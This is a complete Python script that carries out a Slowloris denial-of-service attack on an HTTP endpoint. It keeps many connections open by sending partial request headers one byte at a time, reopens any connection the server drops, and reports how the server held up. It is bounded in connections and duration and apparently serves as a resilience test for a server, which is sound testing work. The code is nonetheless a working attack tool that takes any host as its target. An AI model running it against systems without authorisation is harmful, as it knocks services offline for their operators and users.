#!/usr/bin/env python3
"""Slowloris against an HTTP endpoint, bounded in connections and time.

slowloris.py HOST PORT CONNS SECONDS

Keeps CONNS connections open, each sending the start of a request and then
one header byte a second, never the end of the headers; connections the
server closed are opened again at the next second. Prints one line at the end:
"opened N closed_by_server K answered A longest L" (A: connections that
got any bytes back, which a slow request should not; L: the longest a
connection lived, in whole seconds, counting those still open at the end).
"""
import selectors
import socket
import sys
import time

HEAD = b"GET /metrics HTTP/1.1\r\nHost: xlbt\r\nX-Slow: "


def main():
    host, port, conns, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    sel = selectors.DefaultSelector()
    end = time.monotonic() + seconds
    opened = closed = answered = 0
    socks = {}
    longest = 0

    def open_one():
        nonlocal opened
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect((host, port))
            s.sendall(HEAD)
        except OSError:
            s.close()
            return
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
        socks[s] = time.monotonic()
        opened += 1

    def drop(s):
        nonlocal longest
        longest = max(longest, time.monotonic() - socks.pop(s))
        sel.unregister(s)
        s.close()

    next_tick = time.monotonic()
    while time.monotonic() < end:
        now = time.monotonic()
        if now >= next_tick:
            # once a tick: top the connections up, then a byte on each
            for _ in range(conns - len(socks)):
                open_one()
            for s in list(socks):
                try:
                    s.send(b"x")
                except OSError:
                    closed += 1
                    drop(s)
            next_tick = now + 1
        for key, _ in sel.select(timeout=max(0.05, min(next_tick, end) - time.monotonic())):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if data:
                answered += 1
            closed += 1
            drop(s)
    for s in list(socks):
        drop(s)
    print(f"opened {opened} closed_by_server {closed} answered {answered} longest {int(longest)}")


if __name__ == "__main__":
    main()
